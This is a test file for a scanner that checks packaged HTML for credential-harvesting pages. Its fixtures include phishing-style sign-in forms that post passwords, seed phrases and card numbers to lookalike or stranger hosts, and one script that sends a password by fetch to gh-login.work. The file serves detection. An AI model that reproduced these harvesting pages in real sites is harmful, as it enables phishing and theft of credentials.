import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const form = (action: string, field = '<input type="password" name="p">', title = "Sign in") =>
  `<title>${title}</title>\n<form method="post" action="${action}">\n${field}\n</form>`;

test.each([
  [form("https://accounts.drive-sync.work/s"), "warn credential-form:3"],
  [form("https://accounts.drive-sync.work/s", undefined, "Sign in – Google Accounts"), "block credential-form:3"],
  [form("http://203.0.113.9/s"), "block credential-form:3"],
  [form("https://transfer.sh/s"), "block credential-form:3"],
  [form("//accounts.drive-sync.work/s", '<input name="seed_phrase">', "MetaMask"), "block credential-form:3"],
  [form("https://pay.fee-desk.work/s", '<input autocomplete="cc-number">'), "warn credential-form:3"],
  [
    form("https://api.fee-desk.work/s", '<textarea placeholder="Your recovery phrase"></textarea>'),
    "warn credential-form:3",
  ],
  [
    "<h1>Sign in to GitHub</h1><input type=password id=p><script>\nfunction go() { fetch('https://gh-login.work/s', { method: 'POST', body: document.getElementById('p').value }) }\n</script>",
    "block credential-form:1",
  ],
])("finds a page that sends secrets to a stranger: %s", async (text, expected) => {
  expect(await found("assets/signin.html", text)).toStrictEqual([expected]);
});

test.each([
  form("/login"),
  form(""),
  form("https://example.com/login"),
  form("http://localhost:8000/login"),
  form("https://accounts.google.com/signin", undefined, "Sign in with Google"),
  form("https://forms.drive-sync.work/s", '<input type="email" name="email">', "Newsletter"),
  form("https://queue.falmedia.dev/s", `<input id="falmedia-api-key">`, "Settings"),
  form("https://books.fee-desk.work/s", '<input type="text" name="amount">', "General ledger"),
  "<input type=password id=p><script>fetch('/api/login', { method: 'POST', body: p.value })</script>",
])("lets a page through that does not: %s", async (text) => {
  expect(await found("assets/signin.html", text)).toStrictEqual([]);
});

test("blocks a page that sends secrets to a name that passes for another", async () => {
  expect(await found("assets/signin.html", form("https://paypaI.com/signin"))).toContain("block credential-form:3");
});

test("knows the service that the package is for", async () => {
  const description = "Talks to Drive-Sync, see drive-sync.work.";
  expect(await found("signin.html", form("https://accounts.drive-sync.work/s"), { description })).toStrictEqual([]);
});
